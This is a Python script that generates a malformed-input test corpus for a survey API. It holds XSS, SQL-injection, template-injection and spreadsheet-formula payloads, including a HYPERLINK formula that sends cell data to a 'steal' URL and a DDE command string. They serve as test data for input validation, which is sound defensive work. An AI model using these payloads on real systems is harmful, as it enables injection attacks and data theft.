"""Builds malformed_api_cases.json: the JSON API's malformed-input corpus, kept as data.

Run `python tests/data/malformed_api_cases.py` after changing the cases below; the JSON file is
what tests/collection/test_api.py reads (a test checks it is up to date with this script).

Each case in "rejected" says how to build one request and which 4xx names which field or
question with which code. The body is one of:
  "body": a JSON value, sent as JSON (non-ASCII escaped, so lone surrogates survive as \\udXXX)
  "raw": text sent as UTF-8 as it is (for NaN, broken JSON, duplicate names...)
  "raw_base64": bytes that are not UTF-8
  "size": {"bytes": n, "chunked": bool}: a valid-looking body padded to n bytes
"headers" overrides the defaults (Content-Type: application/json, X-API-Key: a valid key);
null removes a header. "slug" is the URL path segment (default post-support).

"stored_exactly" lists comments that are valid and must come back from the database exactly as
typed: right-to-left overrides, HTML, script, spreadsheet formulas, every script and emoji.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

OUT = Path(__file__).with_suffix(".json")
SUPPORT_OK = {"csat": 4, "effort": 5, "resolved": "yes", "comment": "ok"}
RELATIONSHIP_OK = {"recommend": 9, "satisfaction": 8, "drivers": {"support": 7}}
SCALES = {  # survey slug, valid answers, rated questions with their scale
    "post-support": (SUPPORT_OK, {"csat": (1, 5), "effort": (1, 7)}),
    "relationship-nps": (RELATIONSHIP_OK, {"recommend": (0, 10), "satisfaction": (1, 10),
                                           "expectations": (1, 10), "ideal": (1, 10)}),
}

cases: list[dict] = []


def case(name: str, expect_status: int, where: str, field: str, code: str, **request) -> None:
    cases.append({"name": name, **request,
                  "expect": {"status": expect_status, "where": where, "name": field, "code": code}})


def submission(answers: dict, **fields) -> dict:
    return {"idempotency_key": "malformed", "answers": answers, **fields}


def raw_with_answer(slug: str, question: str, literal: str) -> str:
    answers = dict(SCALES[slug][0])
    answers[question] = "__LITERAL__"
    return json.dumps(submission(answers)).replace('"__LITERAL__"', literal)


# -- scores: out of range, not whole numbers, wrong JSON types ---------------------------------
for slug, (valid, rated) in SCALES.items():
    for question, (low, high) in rated.items():
        def bad(label, value, code, question=question, slug=slug, valid=valid):
            case(f"{slug} {question} = {label}", 422, "question", question, code,
                 slug=slug, body=submission({**valid, question: value}))

        bad("-1", -1, "out_of_range")
        bad(f"{low - 1} (below the scale)", low - 1, "out_of_range") if low - 1 != -1 else None
        bad(f"{high + 1} (above the scale)", high + 1, "out_of_range")
        bad("11", 11, "out_of_range")
        bad("a huge integer", 10 ** 30, "out_of_range")
        bad("3.5", 3.5, "not_integer")
        bad("7.0 (a float)", 7.0, "not_integer")
        bad('"7" (a string)', "7", "not_integer")
        bad('"" (empty string)', "", "not_integer")
        bad("true", True, "not_integer")
        bad("false", False, "not_integer")
        bad("[] (an array)", [], "not_integer")
        bad("{} (an object)", {}, "not_integer")
        for literal in ("NaN", "Infinity", "-Infinity", "1e400"):
            case(f"{slug} {question} = {literal}", 422, "question", question, "not_integer",
                 slug=slug, raw=raw_with_answer(slug, question, literal))

# -- required questions: null or missing ----------------------------------------------------------
for slug, question in (("post-support", "csat"), ("post-support", "effort"),
                       ("relationship-nps", "recommend"), ("relationship-nps", "satisfaction")):
    valid = SCALES[slug][0]
    case(f"{slug} required {question} = null", 422, "question", question, "required",
         slug=slug, body=submission({**valid, question: None}))
    case(f"{slug} required {question} missing", 422, "question", question, "required",
         slug=slug, body=submission({k: v for k, v in valid.items() if k != question}))
case("empty answers object", 422, "question", "csat", "required", body=submission({}))

# -- matrix ---------------------------------------------------------------------------------------
for label, value, code in (('"x"', "x", "wrong_type"), ("[] (an array)", [], "wrong_type"),
                           ("7 (a number)", 7, "wrong_type"), ("support 11", {"support": 11}, "out_of_range"),
                           ("support 0", {"support": 0}, "out_of_range"), ('support "7"', {"support": "7"}, "not_integer"),
                           ("support 2.5", {"support": 2.5}, "not_integer"), ("support true", {"support": True}, "not_integer"),
                           ("unknown attribute", {"colour": 3}, "unknown_attribute")):
    case(f"relationship-nps drivers = {label}", 422, "question", "drivers", code,
         slug="relationship-nps", body=submission({**RELATIONSHIP_OK, "drivers": value}))
case("relationship-nps flat drivers.support = 11", 422, "question", "drivers", "out_of_range",
     slug="relationship-nps", body=submission({**RELATIONSHIP_OK, "drivers.support": 11}))
case("relationship-nps flat drivers.colour = 3", 422, "question", "drivers", "unknown_attribute",
     slug="relationship-nps", body=submission({**RELATIONSHIP_OK, "drivers.colour": 3}))
case('relationship-nps flat drivers.support = "7"', 422, "question", "drivers.support", "not_integer",
     slug="relationship-nps", body=submission({**RELATIONSHIP_OK, "drivers.support": "7"}))

# -- unknown question keys, and questions of another survey ---------------------------------------
for key in ("colour", "", "CSAT", " csat", "csat ", "__proto__", "constructor", "comment.x", "x" * 5000,
            "recommend", "drivers", "why_low", "<script>alert(1)</script>", "=HYPERLINK(\"http://x\")"):
    case(f"post-support unknown question {key[:40]!r}", 422, "question", key, "unknown_question",
         body=submission({**SUPPORT_OK, key: 5}))
case("relationship-nps question of another survey (csat)", 422, "question", "csat", "unknown_question",
     slug="relationship-nps", body=submission({**RELATIONSHIP_OK, "csat": 4}))
case("question key with NUL", 422, "question", "csat\x00", "invalid_characters",
     body=submission({**SUPPORT_OK, "csat\x00": 4}))
case("question key with a lone surrogate", 422, "question", "csat\ud800", "invalid_characters",
     body=submission({**SUPPORT_OK, "csat\ud800": 4}))

# -- choices --------------------------------------------------------------------------------------
for label, value, code in (('"maybe"', "maybe", "not_a_choice"), ('"YES"', "YES", "not_a_choice"),
                           ('" yes"', " yes", "not_a_choice"), ("1", 1, "wrong_type"), ("true", True, "wrong_type"),
                           ('["yes"]', ["yes"], "wrong_type"), ("{}", {"yes": 1}, "wrong_type"),
                           ("<b>yes</b>", "<b>yes</b>", "not_a_choice")):
    case(f"resolved = {label}", 422, "question", "resolved", code, body=submission({**SUPPORT_OK, "resolved": value}))

# -- text -----------------------------------------------------------------------------------------
for label, value, code in (
        ("one over the limit (1001)", "x" * 1001, "too_long"),
        ("1001 emoji", "\U0001F600" * 1001, "too_long"),
        ("1000 characters and a right-to-left override", "x" * 1000 + "\u202e", "too_long"),
        ("1001 characters of HTML", "<b>" + "x" * 994 + "</b>", "too_long"),
        ("a number", 5, "wrong_type"), ("true", True, "wrong_type"), ("an array", ["a"], "wrong_type"),
        ("an object", {"a": "b"}, "wrong_type"),
        ("NUL byte", "before\x00after", "invalid_characters"), ("only NUL", "\x00", "invalid_characters"),
        ("lone high surrogate", "a\ud83dz", "invalid_characters"), ("lone low surrogate", "a\ude00z", "invalid_characters"),
        ("reversed surrogate pair", "\ude00\ud83d", "invalid_characters"),
        ("script with NUL", "<script>\x00alert(1)</script>", "invalid_characters"),
        ("formula with a lone surrogate", "=HYPERLINK(\"http://x\",\"\ud800\")", "invalid_characters")):
    case(f"comment {label}", 422, "question", "comment", code, body=submission({**SUPPORT_OK, "comment": value}))
case("why_low one over the limit (2001)", 422, "question", "why_low", "too_long", slug="relationship-nps",
     body=submission({**RELATIONSHIP_OK, "recommend": 3, "why_low": "y" * 2001}))
case("relationship comment with NUL", 422, "question", "comment", "invalid_characters", slug="relationship-nps",
     body=submission({**RELATIONSHIP_OK, "comment": "\x00"}))

# -- the envelope ---------------------------------------------------------------------------------
envelope = [
    ("idempotency_key", None, "required"), ("idempotency_key", 5, "wrong_type"), ("idempotency_key", "", "blank"),
    ("idempotency_key", "   ", "blank"), ("idempotency_key", "k" * 201, "too_long"),
    ("idempotency_key", ["k"], "wrong_type"), ("idempotency_key", "k\x00", "invalid_characters"),
    ("idempotency_key", "k\udfff", "invalid_characters"),
    ("answers", None, "required"), ("answers", [], "wrong_type"), ("answers", "csat=4", "wrong_type"),
    ("answers", 4, "wrong_type"),
    ("channel", "Kiosk", "invalid_format"), ("channel", "c" * 21, "too_long"), ("channel", 5, "wrong_type"),
    ("channel", "kiosk<script>", "invalid_format"), ("channel", "kiosk\x00", "invalid_characters"),
    ("channel", "", "blank"), ("channel", "=1+1", "invalid_format"),
    ("language", "de", "unknown_language"), ("language", "EN", "unknown_language"), ("language", 5, "wrong_type"),
    ("language", "", "blank"), ("language", "en\x00", "invalid_characters"), ("language", "e" * 11, "too_long"),
    ("token", "no-such-token", "unknown_token"), ("token", 5, "wrong_type"), ("token", "", "blank"),
    ("token", "t" * 101, "too_long"), ("token", "t\x00", "invalid_characters"), ("token", "\ud800", "invalid_characters"),
    ("customer_ref", "NO-SUCH-CUSTOMER", "unknown_customer"), ("customer_ref", 5, "wrong_type"),
    ("customer_ref", "c\x00", "invalid_characters"), ("customer_ref", "c" * 101, "too_long"),
    ("customer_ref", "=HYPERLINK(\"http://x\")", "unknown_customer"),
]
for field, value, code in envelope:
    body = submission(SUPPORT_OK)
    if value is None:
        body.pop(field)
    else:
        body[field] = value
    case(f"{field} = {value!r:.40}", 422, "field", field, code, body=body)
for field in ("answer", "Answers", "ip_address", "user_agent", "customer_id", "idempotencyKey"):
    case(f"unknown body field {field}", 422, "field", field, "unknown_field", body={**submission(SUPPORT_OK), field: 1})

# -- bodies that are not a JSON object, or not JSON -----------------------------------------------
for label, value in (("an array", []), ("a string", "x"), ("null", None), ("a number", 5), ("true", True)):
    case(f"body is {label}", 422, "field", "body", "not_an_object", body=value)
for label, raw in (("empty", ""), ("truncated", '{"idempotency_key": "k", "answers": {'),
                   ("trailing comma", '{"idempotency_key": "k", "answers": {},}'),
                   ("single quotes", "{'idempotency_key': 'k', 'answers': {}}"),
                   ("a comment", '{"idempotency_key": "k", /* hi */ "answers": {}}'),
                   ("extra data", '{"idempotency_key": "k", "answers": {}}}'),
                   ("raw NUL byte in a string", '{"idempotency_key": "k\x00", "answers": {}}'),
                   ("raw newline in a string", '{"idempotency_key": "k\n", "answers": {}}'),
                   ("unquoted name", '{idempotency_key: "k", "answers": {}}'),
                   ("a byte-order mark", '\ufeff{"idempotency_key": "k", "answers": {}}'),
                   ("an integer of 5000 digits", '{"idempotency_key": "k", "answers": {"csat": ' + "9" * 5000 + "}}"),
                   ("a bad escape", '{"idempotency_key": "\\x41", "answers": {}}'),
                   ("HTML instead of JSON", "<html><body>csat=4</body></html>"),
                   ("a form instead of JSON", "idempotency_key=k&csat=4")):
    case(f"body: {label}", 400, "field", "body", "malformed_json", raw=raw)
case("body: duplicate top-level name", 400, "field", "body", "duplicate_name",
     raw='{"idempotency_key": "a", "idempotency_key": "b", "answers": {}}')
case("body: duplicate answer name", 400, "field", "body", "duplicate_name",
     raw='{"idempotency_key": "a", "answers": {"csat": 4, "csat": 5, "effort": 3}}')
case("body: nested 30000 deep", 400, "field", "body", "too_deeply_nested", raw="[" * 30000 + "]" * 30000)
for label, data in (("Latin-1 text", '{"idempotency_key": "k", "answers": {"comment": "caf\xe9"}}'.encode("latin-1")),
                    ("a lone continuation byte", b'{"idempotency_key": "k\x80", "answers": {}}'),
                    ("an encoded surrogate (CESU-8)", b'{"idempotency_key": "k\xed\xa0\x80", "answers": {}}'),
                    ("UTF-16", '{"idempotency_key": "k", "answers": {}}'.encode("utf-16"))):
    case(f"body: {label}", 400, "field", "body", "not_utf8", raw_base64=base64.b64encode(data).decode())

# -- sizes -----------------------------------------------------------------------------------------
for label, size, chunked in (("64 KiB + 1 byte", 64 * 1024 + 1, False), ("1 MB", 1024 * 1024, False),
                             ("1 MB, chunked without Content-Length", 1024 * 1024, True),
                             ("100 KB, chunked", 100_000, True)):
    case(f"body of {label}", 413, "field", "body", "body_too_large", size={"bytes": size, "chunked": chunked})

# -- headers ---------------------------------------------------------------------------------------
for content_type in (None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                     "application/json; charset=latin-1", "application/xml", "text/json"):
    case(f"Content-Type {content_type}", 415, "field", "content-type", "unsupported_media_type",
         headers={"Content-Type": content_type}, body=submission(SUPPORT_OK))
case("no API key", 401, "field", "api_key", "missing_api_key", headers={"X-API-Key": None}, body=submission(SUPPORT_OK))
case("empty API key", 401, "field", "api_key", "missing_api_key", headers={"X-API-Key": ""}, body=submission(SUPPORT_OK))
for label, headers in (("a wrong key", {"X-API-Key": "sk_abcdefgh_not-the-secret"}),
                       ("a key of another shape", {"X-API-Key": "let-me-in"}),
                       ("the right prefix, a wrong secret", {"X-API-Key": "{prefix}_wrong"}),
                       ("a wrong Bearer token", {"X-API-Key": None, "Authorization": "Bearer sk_abcdefgh_nope"}),
                       ("SQL in the key", {"X-API-Key": "sk_' OR 1=1 --_x"})):
    case(f"API key: {label}", 401, "field", "api_key", "invalid_api_key", headers=headers, body=submission(SUPPORT_OK))

# -- the survey in the path ------------------------------------------------------------------------
# (A raw %00 or ../ in the path never reaches the API: Streamlit's path guard answers a plain-text 400 first;
# tests/collection/test_api.py checks that separately.)
for slug in ("no-such-survey", "post-support%2500", "Post-Support", "%F0%9F%98%80", "s" * 300, "post-support%20",
             "post-support%3Cscript%3E", "post_support"):
    case(f"survey slug {slug[:40]!r}", 404, "field", "slug", "unknown_survey", slug=slug, body=submission(SUPPORT_OK))

# -- valid text, stored exactly as typed ----------------------------------------------------------
stored_exactly = [
    "\u202eright-to-left override\u202c", "\u202d\u202e\u2066\u2067\u2068\u2069 every bidi control",
    "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "<b>bold</b> &amp; &lt;not a tag&gt; &",
    '=HYPERLINK("http://example.com/steal?x="&A1,"Click me")', "=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0", "'; DROP TABLE responses; --", 'back\\slash and "quotes"',
    "line one\nline two\r\nline three\rend", "  leading and trailing spaces  ", "\x07bell \x1b[31mred\x1b[0m",
    "emoji \U0001F600\U0001F44D\U0001F3FD family \U0001F469\u200D\U0001F469\u200D\U0001F467",
    "combining e\u0301 versus \u00e9", "你好，世界", "مرحبا بالعالم", "שלום עולם", "Привет", "ελληνικά",
    "zero\u200bwidth and \ufeff a BOM inside", "\U0001D54F\U0001D552\U0001D55C (outside the BMP)",
    "{{7*7}} ${7*7} <%= 7*7 %>", "%s%s%n %x", "é" * 1000,
]

if __name__ == "__main__":
    document = {"description": __doc__.strip().splitlines()[0], "rejected": cases, "stored_exactly": stored_exactly}
    OUT.write_text(json.dumps(document, ensure_ascii=True, indent=1) + "\n", encoding="ascii")
    print(f"wrote {OUT}: {len(cases)} rejected cases, {len(stored_exactly)} stored exactly")
